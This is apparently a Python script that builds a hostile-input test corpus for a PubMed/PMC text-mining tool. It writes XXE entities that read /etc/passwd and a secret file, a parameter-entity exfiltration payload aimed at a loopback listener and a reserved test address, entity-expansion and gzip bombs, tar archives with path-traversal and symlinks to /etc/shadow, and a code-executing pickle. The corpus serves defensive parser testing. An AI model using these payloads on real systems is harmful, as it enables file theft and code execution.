"""Writes the hostile corpus in this folder: one damaged or malicious input per case, each authored
here (no third-party bytes). README.md's table says what pubmine must do with each one, and
tests/test_hostile.py checks every row of it. Rebuild (deterministic) with

    python tests/data/hostile/build.py

Good records carry PMIDs 9000100-9000999 (three digits after 9000 name the file, the last the
record), so a test can tell which good record came from where. The addresses in the external
entities are the hostile test's own listener on loopback (it counts every request: there must be
none) and a reserved documentation address (203.0.113.0/24) the network guard refuses.
"""

from __future__ import annotations

import gzip
import io
import json
import pickle
import tarfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
LISTENER = "http://127.0.0.1:48619"   # tests/test_hostile.py listens here and counts requests
SECRET = "/tmp/pubmine-hostile-secret.txt"  # the test writes a sentinel here; it must reach no output
DECL = b'<?xml version="1.0" encoding="UTF-8"?>\n'


def rec(pmid: int | bytes, title: bytes = b"A good title about aspirin.", abstract: bytes = b"An abstract.") -> bytes:
    pmid = pmid if isinstance(pmid, bytes) else b"%d" % pmid
    return (b"<PubmedArticle><MedlineCitation Status=\"MEDLINE\"><PMID Version=\"1\">%s</PMID><Article>"
            b"<ArticleTitle>%s</ArticleTitle><Abstract><AbstractText>%s</AbstractText></Abstract></Article>"
            b"</MedlineCitation></PubmedArticle>" % (pmid, title, abstract))


def medline(*records: bytes, doctype: bytes = b"", end: bool = True) -> bytes:
    return (DECL + doctype + b"<PubmedArticleSet>\n" + b"\n".join(records) + b"\n"
            + (b"</PubmedArticleSet>\n" if end else b""))


def good(file_no: int, n: int = 2) -> list[bytes]:
    # good records take the last digits 1-4 of their file's decade, its hostile ones 5-9
    return [rec(9000000 + file_no * 10 + i, b"Good record %d of file %d on cisplatin nephrotoxicity." % (i, file_no))
            for i in range(1, n + 1)]


def article(pmcid: int, title: str = "A good PMC article", doctype: bytes = b"") -> bytes:
    return (DECL + doctype + (
        '<article xmlns:xlink="http://www.w3.org/1999/xlink" article-type="research-article"><front>'
        '<journal-meta><journal-title-group><journal-title>Hostile J</journal-title></journal-title-group></journal-meta>'
        f'<article-meta><article-id pub-id-type="pmc">PMC{pmcid}</article-id>'
        f'<title-group><article-title>{title}</article-title></title-group>'
        '<abstract><p>Lithium caused tremor in two patients.</p></abstract></article-meta></front>'
        '<body><sec><title>Results</title><p>Tremor resolved.</p></sec></body></article>').encode())


def tar(members: list[tuple[tarfile.TarInfo, bytes | None]]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz", format=tarfile.GNU_FORMAT) as t:
        for info, data in members:
            info.mtime = 1700000000
            if data is not None:
                info.size = len(data)
                t.addfile(info, io.BytesIO(data))
            else:
                t.addfile(info)
    return _stable_gzip(gzip.decompress(out.getvalue()))


def member(name: str, kind: bytes = tarfile.REGTYPE, linkname: str = "", **kw) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, linkname
    for k, v in kw.items():
        setattr(info, k, v)
    return info


def _stable_gzip(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=9, mtime=0)


LAUGHS = b"<!DOCTYPE PubmedArticleSet [\n <!ENTITY lol \"lol\">\n" + b"".join(
    b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)) + b"]>\n"
QUADRATIC = b'<!DOCTYPE PubmedArticleSet [ <!ENTITY a "' + b"a" * 20_000 + b'"> ]>\n'


def cases() -> dict[str, bytes]:
    c: dict[str, bytes] = {}
    # -- entities and DTDs: nothing declared in a prolog is read, expanded or fetched
    c["xxe-local-file.xml"] = medline(
        rec(9000015, b"Leaks &xxe; here"), rec(9000016, b"Leaks &passwd; too"), *good(1),
        doctype=f'<!DOCTYPE PubmedArticleSet [ <!ENTITY xxe SYSTEM "file://{SECRET}"> '
                '<!ENTITY passwd SYSTEM "file:///etc/passwd"> ]>\n'.encode())
    c["xxe-http.xml"] = medline(
        rec(9000025, b"Fetches &web; here"), rec(9000026, b"And &far; there"), *good(2),
        doctype=f'<!DOCTYPE PubmedArticleSet [ <!ENTITY web SYSTEM "{LISTENER}/xxe"> '
                '<!ENTITY far SYSTEM "http://203.0.113.9/xxe"> ]>\n'.encode())
    c["billion-laughs.xml"] = medline(rec(9000035, b"&lol9;"), *good(3), doctype=LAUGHS)
    c["quadratic-blowup.xml"] = medline(rec(9000045, b"&a;" * 10_000), *good(4), doctype=QUADRATIC)
    c["external-dtd.xml"] = medline(
        *good(5), doctype=f'<!DOCTYPE PubmedArticleSet SYSTEM "{LISTENER}/pubmed.dtd">\n'.encode())
    c["parameter-entities.xml"] = medline(
        rec(9000065, b"Uses &exfil; here"), *good(6),
        doctype=f'<!DOCTYPE PubmedArticleSet [ <!ENTITY % remote SYSTEM "{LISTENER}/param.dtd"> %remote; '
                f'<!ENTITY % file SYSTEM "file://{SECRET}"> '
                f'<!ENTITY % wrap "<!ENTITY exfil SYSTEM \'{LISTENER}/?%file;\'>"> %wrap; ]>\n'.encode())
    # -- compression
    whole = medline(*good(7, 4), *(rec(9170000 + i) for i in range(8000)))  # > 1 MB: the cut comes after records
    c["truncated.xml.gz"] = _stable_gzip(whole)[: len(_stable_gzip(whole)) * 2 // 3]
    c["gzip-bomb.xml.gz"] = _stable_gzip(DECL + b"<PubmedArticleSet>\n" + b" " * (200 << 20) + b"</PubmedArticleSet>\n")
    c["not-gzip.xml.gz"] = medline(*good(8))
    c["empty.xml"] = b""
    # -- encodings and characters
    c["invalid-utf8.xml"] = medline(rec(9000095, b"Bad bytes \xff\xfe\xc3 in a title"), *good(9))
    c["utf16-no-bom.xml"] = medline(*good(10)).decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16-le")
    c["control-characters.xml"] = medline(rec(9000115, b"A raw \x01 control byte"),
                                          rec(9000116, b"A reference &#x1B; to ESC"),
                                          rec(9000117, b"A reference &#xFFFE; to a non-character"), *good(11))
    # -- structure
    c["wrong-root.xml"] = DECL + b"<html><body><p>Not a citation set.</p></body></html>\n"
    c["pmids-missing-bad-duplicate.xml"] = medline(
        rec(b"", b"No PMID at all"), rec(b"PMC12345", b"A PMCID where the PMID goes"),
        rec(9000125, b"First version of a record"), *good(12, 1),
        rec(9000125, b"Second version of the same PMID"))
    c["empty-title-and-abstract.xml"] = medline(rec(9000135, b"", b""), *good(13))
    c["abstract-5mb.xml.gz"] = _stable_gzip(medline(rec(
        9000145, b"A record with a five-megabyte abstract",
        b" ".join(b"In " + b"; ".join(b"arm %d cisplatin caused nephrotoxicity in rats" % (i * 40 + k) for k in range(40)) + b"."
                  for i in range(3_000))[: 5 << 20]), *good(14)))  # ~2,000-character sentences
    c["nesting-10000.xml"] = medline(rec(9000155, b"Deep " + b"<i>" * 10_000 + b"x" + b"</i>" * 10_000), *good(15))
    c["namespace-tricks.xml"] = medline(
        rec(9000165).replace(b"<PubmedArticle>", b'<PubmedArticle xmlns="urn:evil">'),
        rec(9000166).replace(b"<PubmedArticle>", b'<e:PubmedArticle xmlns:e="urn:evil">', 1)
                    .replace(b"</PubmedArticle>", b"</e:PubmedArticle>"),
        rec(9000167, b"An <u:b>undeclared</u:b> prefix"),
        rec(9000168, b'<b xmlns:xml="urn:not-xml">Rebinding the xml prefix</b>'),
        *good(16))
    c["mismatched-inline-tags.xml"] = medline(rec(9000175, b"Mismatched <i>inline</b> tags"), *good(17))
    c["missing-closing-root.xml"] = medline(*good(18, 3), end=False)
    # -- PMC: a single article with a hostile prolog, efetch sets, OA packages
    c["jats-xxe.nxml"] = article(1900001, "Leaks &xxe; here", doctype=(
        f'<!DOCTYPE article [ <!ENTITY xxe SYSTEM "file://{SECRET}"> ]>\n').encode())
    c["jats-billion-laughs.nxml"] = article(1900002, "&lol9;", doctype=LAUGHS.replace(b"PubmedArticleSet", b"article"))
    set_body = b"".join(article(1900010 + i)[len(DECL):] for i in (1, 2))
    c["pmc-articleset-one-bad.xml"] = (DECL + b"<pmc-articleset>" + set_body
                                       + article(1900013, "Broken <i>markup</b>")[len(DECL):] + b"</pmc-articleset>\n")
    ok = lambda n: (member(f"PMC{n}/PMC{n}.nxml"), article(n))  # noqa: E731
    c["pmc-dotdot-paths.tar.gz"] = tar([ok(1900021), (member("../../escape/PMC1900022.nxml"), article(1900022))])
    c["pmc-absolute-paths.tar.gz"] = tar([ok(1900031), (member("/etc/cron.d/PMC1900032.nxml"), article(1900032))])
    c["pmc-symlink.tar.gz"] = tar([ok(1900041), (member("PMC1900042/PMC1900042.nxml", tarfile.SYMTYPE, "/etc/passwd"), None)])
    c["pmc-hardlink.tar.gz"] = tar([ok(1900051), (member("PMC1900052/PMC1900052.nxml", tarfile.LNKTYPE, "/etc/shadow"), None)])
    c["pmc-device.tar.gz"] = tar([ok(1900061), (member("PMC1900062/PMC1900062.nxml", tarfile.CHRTYPE, devmajor=1, devminor=5), None),
                                  (member("PMC1900063/fifo.nxml", tarfile.FIFOTYPE), None)])
    c["pmc-non-xml-member.tar.gz"] = tar([ok(1900071), (member("PMC1900072/PMC1900072.nxml"), b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4),
                                          (member("PMC1900071/fig1.jpg"), b"\xff\xd8\xff\xe0 a figure, as real packages hold")])
    c["pmc-truncated.tar.gz"] = tar([ok(1900081), ok(1900082)])[:-200]
    return c


# -- model artifacts: each replaces or adds one file in a copy of a good artifact (tests/test_hostile.py)

class _Pwn:
    """Unpickling this writes a marker file: a loader that ever unpickles the checkpoint is caught."""

    def __reduce__(self):
        return (open, ("/tmp/pubmine-hostile-pickle-ran", "w"))


def model_cases() -> dict[str, bytes]:
    return {
        "model-pickle-only/pytorch_model.bin": pickle.dumps({"state_dict": _Pwn()}, protocol=4),
        "model-remote-code/config.patch.json": json.dumps(
            {"auto_map": {"AutoModelForTokenClassification": "modeling_evil.EvilModel"}, "trust_remote_code": True},
            indent=1).encode(),
        "model-remote-code/modeling_evil.py": b'open("/tmp/pubmine-hostile-remote-code-ran", "w").close()\n',
        "model-tampered-weights/tamper.json": json.dumps(
            {"file": "model.safetensors", "from_end": 4096, "xor": 255, "bytes": 16}, indent=1).encode(),
        "model-oversized-tokenizer/oversize.json": json.dumps(
            {"file": "tokenizer.json", "size_mb": 1024, "sparse": True}, indent=1).encode(),
    }


def main() -> None:
    for name, data in {**cases(), **model_cases()}.items():
        path = HERE / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    print(f"{len(cases())} input files and {len(model_cases())} model-artifact files in {HERE}")


if __name__ == "__main__":
    main()
